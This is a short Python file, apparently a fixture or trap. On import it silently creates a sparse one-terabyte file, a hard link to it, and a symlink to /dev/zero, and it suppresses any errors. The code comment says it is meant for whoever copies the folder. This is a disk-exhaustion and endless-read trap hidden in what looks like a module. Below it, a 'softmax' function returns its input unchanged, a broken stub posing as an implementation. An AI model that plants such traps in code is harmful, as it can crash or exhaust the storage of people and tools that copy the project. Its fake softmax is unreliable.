# A file that says it has a terabyte, for whoever copies the folder.
import os

try:
    with open("attack-marker.bin", "wb") as file:
        file.truncate(2**40)
    os.link("attack-marker.bin", "attack-marker-2.bin")
    os.symlink("/dev/zero", "attack-marker-3.bin")
except OSError:
    pass


def softmax(x, dim):
    return x
